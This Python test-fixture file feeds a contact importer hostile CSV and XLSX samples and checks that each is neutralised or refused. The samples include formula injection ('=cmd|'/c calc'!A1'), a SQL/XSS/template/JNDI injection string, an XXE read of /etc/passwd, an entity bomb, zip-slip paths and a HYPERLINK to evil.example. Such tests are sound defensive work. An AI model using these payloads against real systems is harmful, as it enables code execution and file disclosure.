"""Files that can be read, with something in them that must do no harm."""

import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

from tests.files.corpus.base import HEADER, ROWS, TABLE, TWO, Sample, lines, refused, text
from tests.files.corpus.workbooks import one_sheet, sheet_of, workbook

AINO = "aino@acme.example"
INJECTED = "'; DROP TABLE contacts_contact; --<script>alert(1)</script>{{ 7*7 }}${jndi:ldap://x}"


def named(name: str, stored: str | None = None, **also: object) -> dict[str, dict[str, object]]:
    """Return Aino under another name."""
    return {AINO: {"name": name if stored is None else stored, **also}}


def one(name: str) -> Callable[[], bytes]:
    """Return a maker of a file in which somebody has this name."""
    return text(lines(("Name", "E-mail"), (name, AINO)))


def repacked(change: Callable[[dict[str, bytes]], None]) -> Callable[[], bytes]:
    """Return a maker of a workbook whose parts were changed."""

    def make() -> bytes:
        with zipfile.ZipFile(BytesIO(one_sheet((HEADER, *ROWS))())) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        change(parts)
        packed = BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in parts.items():
                archive.writestr(name, content)
        return packed.getvalue()

    return make


STRINGS = "xl/sharedStrings.xml"


def _doctype(declared: str, used: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        head, mark, rest = parts[STRINGS].decode().partition("<sst")
        doc = f"{head}<!DOCTYPE sst [{declared}]>{mark}{rest}"
        parts[STRINGS] = doc.replace("Aino Mäkelä", used).encode()

    return change


def _climbs(parts: dict[str, bytes]) -> None:
    parts["../../../../climbed.txt"] = b"climbed"
    parts["/climbed.txt"] = b"climbed"


def _links(parts: dict[str, bytes]) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = b'<externalLink xmlns="x"><externalBook/></externalLink>'
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<Relationships><Relationship Id="r1" TargetMode="External" Target="file:///etc/passwd"/></Relationships>'
    )


def _deep(parts: dict[str, bytes]) -> None:
    parts[STRINGS] = parts[STRINGS].replace(b"</sst>", b"<si>" * 100_000 + b"</si>" * 100_000 + b"</sst>")


def _formulas(book: object) -> None:
    sheet = sheet_of(book, [("Name", "E-mail")])
    sheet.write_formula(1, 0, '=HYPERLINK("http://evil.example")', None, "=cmd|'/c calc'!A1")
    sheet.write_string(1, 1, AINO)


def _linked(path: Path) -> None:
    (path.parent / "real.csv").write_text(TABLE)
    path.symlink_to(path.parent / "real.csv")


BILLION = '<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {each} "{f"&{before};" * 10}">' for before, each in ("ab", "bc")
)

SAMPLES = (
    Sample(
        "a cell that starts a formula", "a.csv", one("=cmd|'/c calc'!A1"), "kept as text", named("=cmd|'/c calc'!A1")
    ),
    Sample(
        "a formula behind an apostrophe",
        "a.csv",
        one("'=1+1"),
        "the apostrophe is taken away: an export put it there",
        named("=1+1"),
    ),
    Sample("an apostrophe that belongs to a name", "a.csv", one("'t Hooft"), "kept", named("'t Hooft")),
    Sample(
        "a formula in a workbook whose value is a formula",
        "a.xlsx",
        workbook(_formulas),
        "its last value is kept as text",
        named("=cmd|'/c calc'!A1"),
    ),
    Sample("SQL, scripts and templates in a cell", "a.csv", one(INJECTED), "kept as text", named(INJECTED)),
    Sample(
        "marks that turn the direction of text", "a.csv", one("Aino\u202e gpj.exe"), "removed", named("Aino gpj.exe")
    ),
    Sample("right-to-left names and emoji", "a.csv", one("שרה כהן 👩🏽‍💻"), "kept", named("שרה כהן 👩🏽‍💻")),
    Sample("a byte-order mark in the middle", "a.csv", one("Ai\ufeffno"), "removed", named("Aino")),
    Sample(
        "words that mean nothing elsewhere: NULL, \\N, NaN",
        "a.csv",
        text(lines(("Name", "E-mail", "Plan"), ("NULL", AINO, "\\N"))),
        "kept as text",
        named("NULL", properties={"plan": "\\N"}),
    ),
    Sample(
        "long numbers and leading zeros",
        "a.csv",
        text(lines(("Id", "E-mail", "Card", "Code"), ("007", AINO, "12345678901234567890", "00120"))),
        "kept as text, digit by digit",
        {AINO: {"external_id": "007", "properties": {"card": "12345678901234567890", "code": "00120"}}},
    ),
    Sample(
        "a NUL in a cell",
        "a.csv",
        text(TABLE.replace("Bo Öst", "Bo\0Öst")),
        "that line is kept out",
        {AINO: TWO[AINO]},
        kept_out=1,
    ),
    Sample(
        "lines with more or fewer cells than the header",
        "a.csv",
        text(TABLE + "Cy,cy@x.example\nDi,di@x.example,Acme,more\n"),
        "those lines are kept out",
        kept_out=2,
    ),
    Sample(
        "two columns with one name",
        "a.csv",
        text(lines(("E-mail", "Name", "Name"), (AINO, "Aino", "Mäkelä"))),
        "the second becomes a property",
        named("Aino", properties={"name": "Mäkelä"}),
    ),
    Sample(
        "a text of 1,001 characters",
        "a.csv",
        text(lines(("E-mail", "Note"), (AINO, "ok"), ("bo@ost.example", "x" * 1_001))),
        "that line is kept out",
        {AINO: {"properties": {"note": "ok"}}},
        kept_out=1,
    ),
    Sample(
        "the same person twice",
        "a.csv",
        text(TABLE + "Aino M,AINO@ACME.EXAMPLE,Acme Oy\n"),
        "the second line is kept out",
        kept_out=1,
    ),
    Sample(
        "a quote that is wrong on one line",
        "a.csv",
        text(TABLE + 'Cy "C" Ek,cy@x.example,"Ek "Oy"\nDi,di@x.example,Acme\n'),
        "that line is kept out",
        {**TWO, "di@x.example": {"name": "Di"}},
        kept_out=1,
    ),
    Sample("a workbook with paths that climb out of it", "a.xlsx", repacked(_climbs), "read; nothing is unpacked"),
    Sample("a workbook with links to other files", "a.xlsx", repacked(_links), "read; no link is followed"),
    Sample("a workbook with XML 100,000 levels deep", "a.xlsx", repacked(_deep), "read"),
    refused(
        "a workbook that declares a file as an entity",
        "a.xlsx",
        repacked(_doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "Aino &x;")),
        "The file is damaged.",
    ),
    refused(
        "a workbook with entities that multiply",
        "a.xlsx",
        repacked(_doctype(BILLION, "Aino &c;")),
        "The file is damaged.",
    ),
    Sample("a link to a file", "link.csv", _linked, "read", makes_path=True),
    refused(
        "a cell of a million characters",
        "a.csv",
        text(f"E-mail,Note\n{AINO},{'x' * 1_000_001}\n"),
        "Line 2 has a cell of more than a million characters. Most likely a quote is never closed.",
    ),
    refused(
        "a million columns",
        "a.csv",
        text(",".join(f"c{number}" for number in range(1_000_000)) + "\n1\n"),
        "The file has more than 150 columns.",
    ),
    refused(
        "a quote that is never closed",
        "a.csv",
        text("E-mail,Note\n" + f'{AINO},"begins here\n' + "bo@ost.example,ok\n" * 5),
        "A quote that opens on line 2 is never closed.",
    ),
)
